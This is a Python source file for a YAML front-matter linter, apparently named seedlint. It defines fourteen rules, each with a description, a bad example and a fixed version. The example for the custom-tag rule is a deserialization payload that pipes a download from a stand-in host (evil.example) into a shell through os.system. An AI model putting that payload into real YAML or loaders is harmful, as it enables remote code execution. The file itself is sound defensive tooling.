"""Rules about the file itself: bytes, front matter and YAML.

These are reported while the document is read (see :mod:`seedlint.document`),
so their metadata sits in the catalogue below it; a file with an error here may
not reach the schema and value rules.
"""

from __future__ import annotations

import re

from seedlint.catalogue.rule import Rule
from seedlint.diagnostics import Severity

MISSING_FRONT_MATTER = Rule(
    "S001",
    "missing-front-matter",
    "The file does not start with a `---` line opening the front matter.",
    """
    A seed is one YAML block between two `---` lines at the very top of the
    file. Without the opening line nothing in the file is read as data.
    """,
    example="""
    title: EU restricts facial recognition exports
    type: article
    """,
    use_instead="""
    ---
    title: EU restricts facial recognition exports
    type: article
    ---
    """,
)
UNTERMINATED_FRONT_MATTER = Rule(
    "S002",
    "unterminated-front-matter",
    "The front matter opened with `---` is never closed by a second `---` line.",
    """
    Without the closing line the extent of the YAML is unknown, so the file is
    not checked further. Reported at the opening line.
    """,
    example="""
    ---
    title: EU restricts facial recognition exports
    type: article
    """,
    use_instead="""
    ---
    title: EU restricts facial recognition exports
    type: article
    ---
    """,
)
YAML_SYNTAX = Rule(
    "S003",
    "yaml-syntax-error",
    "The front matter is not valid YAML.",
    """
    Reported at the position where libyaml stopped, with its explanation
    (for example an unclosed quote or a bad indentation).
    """,
    example="""
    ---
    title: "EU restricts facial recognition exports
    type: article
    ---
    """,
    use_instead="""
    ---
    title: "EU restricts facial recognition exports"
    type: article
    ---
    """,
)
EMPTY = Rule(
    "S004",
    "empty-seed",
    "The file, or its front matter, holds no data.",
    """
    An empty file or a front matter block with nothing between the two `---`
    lines describes no article. Delete the file or fill it in.
    """,
    example="""
    ---
    ---
    """,
    use_instead="""
    ---
    title: EU restricts facial recognition exports
    type: article
    ---
    """,
)
NOT_TEXT = Rule(
    "S005",
    "not-utf8-text",
    "The file is binary or not valid UTF-8.",
    """
    Seeds are UTF-8 text. A NUL byte marks a binary file; any byte sequence that
    is not UTF-8 (often Latin-1 or Windows-1252 from an old export) is reported
    at its line and column. Re-save the file as UTF-8.
    """,
    example="""
    ---
    title: Le café   # saved as Windows-1252: "é" is the single byte E9
    ---
    """,
    use_instead="""
    ---
    title: Le café   # saved as UTF-8: "é" is the two bytes C3 A9
    ---
    """,
)
TOO_LARGE = Rule(
    "S006",
    "file-too-large",
    "The file is larger than the configured size limit (`max-file-size`, default 1 MiB).",
    """
    A seed is a few kilobytes. A much larger file is almost always a mistake
    (a stray export or binary) and is not read, so one bad file cannot stall a run.
    Raise `max-file-size` in the configuration if large seeds are intended.
    """,
    example="""
    ---
    title: EU restricts facial recognition exports
    # ... followed by 40,000 lines of a pasted database export (3 MB)
    ---
    """,
    use_instead="""
    ---
    title: EU restricts facial recognition exports
    type: article
    ---
    """,
)
DUPLICATE_KEY = Rule(
    "S007",
    "duplicate-key",
    "A mapping defines the same key twice.",
    """
    YAML forbids duplicate keys, yet PyYAML silently keeps the last value, so
    one of the two values is lost without a word. Reported at the second key,
    naming the line of the first.
    """,
    example="""
    ---
    title: EU restricts facial recognition exports
    type: article
    title: EU plans export limits
    ---
    """,
    use_instead="""
    ---
    title: EU restricts facial recognition exports
    type: article
    ---
    """,
)
ANCHOR_ALIAS = Rule(
    "S008",
    "anchor-or-alias",
    "The front matter uses a YAML anchor (`&name`) or alias (`*name`).",
    """
    Anchors and aliases are not part of the seed format. They make a value
    appear in several places at once and are the mechanism of "billion laughs"
    attacks, where a few lines expand to gigabytes. Aliases are never expanded:
    the aliased value is treated as missing.
    """,
    example="""
    ---
    webUrl: &url https://www.biometricupdate.com/202010/eu-restrictions
    originalUrl: *url
    ---
    """,
    use_instead="""
    ---
    webUrl: https://www.biometricupdate.com/202010/eu-restrictions
    originalUrl: https://www.biometricupdate.com/202010/eu-restrictions
    ---
    """,
)
CUSTOM_TAG = Rule(
    "S009",
    "custom-tag",
    "A value carries a YAML tag such as `!!python/object/apply` or `!custom`.",
    """
    Tags ask a loader to build objects; in the hands of an unsafe loader they
    run code. seedlint never constructs tagged values: the value is treated as
    missing. Only the plain core tags (`!!str`, `!!int`, `!!float`, `!!bool`,
    `!!null`, `!!map`, `!!seq`) are accepted.
    """,
    example="""
    ---
    quality: !!python/object/apply:os.system ["curl evil.example | sh"]
    ---
    """,
    use_instead="""
    ---
    quality: 33
    ---
    """,
)
RAW_CONTROL_CHARACTERS = re.compile(r"[\x00-\x08\x0b\x0c\x0e-\x1f\x7f\x80-\x84\x86-\x9f]")
"""What S010 reports when written raw in a file: C0/C1 controls except tab, LF, CR and NEL.

The one definition: the reader reports these (S010) and the text rules skip them (C004).
"""
CONTROL_CHARACTER = Rule(
    "S010",
    "control-character",
    "The file contains a control character (other than tab and line breaks).",
    """
    Control characters are invisible in editors and review tools, break YAML
    parsing and corrupt the data downstream. Reported at each occurrence.
    """,
    example="""
    ---
    title: EU restricts␇ facial recognition exports   # ␇: a raw BEL byte (07)
    ---
    """,
    use_instead="""
    ---
    title: EU restricts facial recognition exports
    ---
    """,
)
TAB_INDENTATION = Rule(
    "S011",
    "tab-indentation",
    "A line of the front matter is indented with a tab.",
    """
    YAML forbids tabs for indentation; libyaml's error for them is cryptic.
    """,
    example="""
    ---
    provider:
    \tname: Biometric Update
    ---
    """,
    use_instead="""
    ---
    provider:
      name: Biometric Update
    ---
    """,
)
TOO_DEEP = Rule(
    "S012",
    "nesting-too-deep",
    "The front matter nests collections deeper than any seed needs (limit 32 levels).",
    """
    Real seeds nest four levels deep. Thousands of nested brackets are a
    denial-of-service attempt on recursive tools; the file is not checked further.
    """,
    example="""
    ---
    topics: [[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[AI]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]
    ---
    """,
    use_instead="""
    ---
    topics: [AI]
    ---
    """,
)
AMBIGUOUS_SCALAR = Rule(
    "S013",
    "ambiguous-scalar",
    "An unquoted value means different things to YAML 1.1 and YAML 1.2 readers.",
    """
    PyYAML follows YAML 1.1: a plain `no`, `yes`, `on` or `off` is a boolean,
    `0x10` is 16, `010` is 8, `1_000` is 1000 and `12:30` is 750, while `1e3`
    stays a string. YAML 1.2 readers (and JSON) disagree on each of these, so
    the same seed means different things to different tools.
    """,
    example="""
    ---
    title: no
    ---
    """,
    use_instead="""
    ---
    title: "no"
    ---
    """,
    severity=Severity.WARNING,
)
NON_STRING_KEY = Rule(
    "S014",
    "non-string-key",
    "A mapping key is a collection or a tagged value instead of a plain name.",
    """
    Seed keys are plain names such as `title`. A mapping or list used as a key
    (`? [a, b]`) cannot be represented in JSON and is not checked further.
    """,
    example="""
    ---
    ? [topics]
    : [AI]
    ---
    """,
    use_instead="""
    ---
    topics: [AI]
    ---
    """,
)

RULES = (
    MISSING_FRONT_MATTER,
    UNTERMINATED_FRONT_MATTER,
    YAML_SYNTAX,
    EMPTY,
    NOT_TEXT,
    TOO_LARGE,
    DUPLICATE_KEY,
    ANCHOR_ALIAS,
    CUSTOM_TAG,
    CONTROL_CHARACTER,
    TAB_INDENTATION,
    TOO_DEEP,
    AMBIGUOUS_SCALAR,
    NON_STRING_KEY,
)
